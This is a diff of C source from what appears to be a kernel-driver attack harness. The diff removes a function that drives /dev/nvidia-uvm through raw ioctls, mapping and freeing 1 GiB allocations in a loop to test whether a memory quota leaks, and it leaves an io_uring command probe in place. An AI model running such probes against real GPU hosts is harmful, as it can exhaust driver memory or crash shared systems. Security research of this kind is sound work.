@@ -1,4 +1,4 @@
-/* Other ways into the kernel, and memory that UVM keeps. */
+/* Other ways into the kernel; what a call costs. */
 #include "attack.h"
 
 #include <linux/io_uring.h>
@@ -98,86 +98,6 @@ void attack_uring (int argc, char **argv)
     entry.off = REQUEST (0x2b, sizeof (call)); /* cmd_op */
     say ("command", (uint64_t) -submit (ring, &params, rings, entries, &entry));
     say ("status", call.status);
-}
-
-static int uvm;
-
-static uint32_t uvm_call (unsigned long number, void *params, size_t status_at)
-{
-    uint32_t status;
-
-    if (ioctl (uvm, number, params) < 0)
-        return 0x10000u + (uint32_t) errno;
-    memcpy (&status, (uint8_t *) params + status_at, sizeof (status));
-    return status;
-}
-
-/* uvm PIECES: memory is mapped through UVM, which takes a duplicate, and then freed: what is left of the quota? */
-void attack_uvm (int argc, char **argv)
-{
-    struct bed bed = bed_open ();
-    struct {
-        uint8_t uuid[16];
-        int32_t file;
-        uint32_t client, space, status;
-    } space = { .file = bed.file, .client = bed.client, .space = 0x5c000090, .status = 0xffff };
-    struct {
-        uint8_t uuid[16];
-        uint32_t numa;
-        int32_t node, file;
-        uint32_t client, partition, status;
-    } gpu = { .file = bed.file, .client = bed.client, .status = 0xffff };
-    struct {
-        uint64_t base, length, offset;
-        struct {
-            uint8_t uuid[16];
-            uint32_t kinds[5];
-        } gpus[256];
-        uint64_t count;
-        int32_t file;
-        uint32_t client, memory, status;
-    } *map = calloc (1, sizeof (*map));
-    struct {
-        uint64_t base, length;
-        uint32_t status, spare;
-    } range = { 0 };
-    uint32_t gid[67] = { 0, 2 }, address_space[12] = { 0 };
-    uint64_t flags[2] = { 0, 0xffff }, base = 0x700000000000;
-    int32_t memory[2] = { -1, -1 };
-    unsigned pieces = argc > 0 ? (unsigned) atoi (argv[0]) : 20, kept = 0;
-
-    uvm = open ("/dev/nvidia-uvm", O_RDWR);
-    memory[0] = uvm;
-    say ("gid", bed_control (&bed, bed.subdevice, 0x2080014a, gid, sizeof (gid)));
-    memcpy (gpu.uuid, gid + 3, 16);
-    memcpy (space.uuid, gid + 3, 16);
-    say ("initialize", uvm_call (0x30000001, flags, 8));
-    /* MM_INITIALIZE, on a file of its own: before it no address space can be registered. */
-    say ("mm", ioctl (open ("/dev/nvidia-uvm", O_RDWR), 75, memory) < 0 ? 0x10000u + (uint32_t) errno : (uint32_t) memory[1]);
-    say ("register", uvm_call (37, &gpu, 36));
-    address_space[1] = 0x48; /* NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, ENABLE_PAGE_FAULTING (nvos.h) */
-    say ("space", bed_alloc (&bed, bed.device, space.space, 0x90f1, address_space));
-    say ("register-space", uvm_call (25, &space, 28));
-    for (unsigned i = 0; i < pieces; i++) {
-        uint32_t handle;
-
-        if (bed_memory (&bed, &handle, GIB) != 0)
-            break;
-        range.base = map->base = base + i * GIB;
-        range.length = map->length = GIB;
-        uvm_call (73, &range, 16);
-        memcpy (map->gpus[0].uuid, gid + 3, 16);
-        map->count = 1;
-        map->file = bed.file;
-        map->client = bed.client;
-        map->memory = handle;
-        kept += uvm_call (33, map, 9260) == 0;
-        if (i == 0)
-            say ("map", map->status);
-        bed_free (&bed, handle);
-    }
-    say ("kept", kept);
-    hold ();
 }
 
 /* churn ROUNDS MEBIBYTES: nanoseconds of an allocation and its freeing: the median, and the longest. */
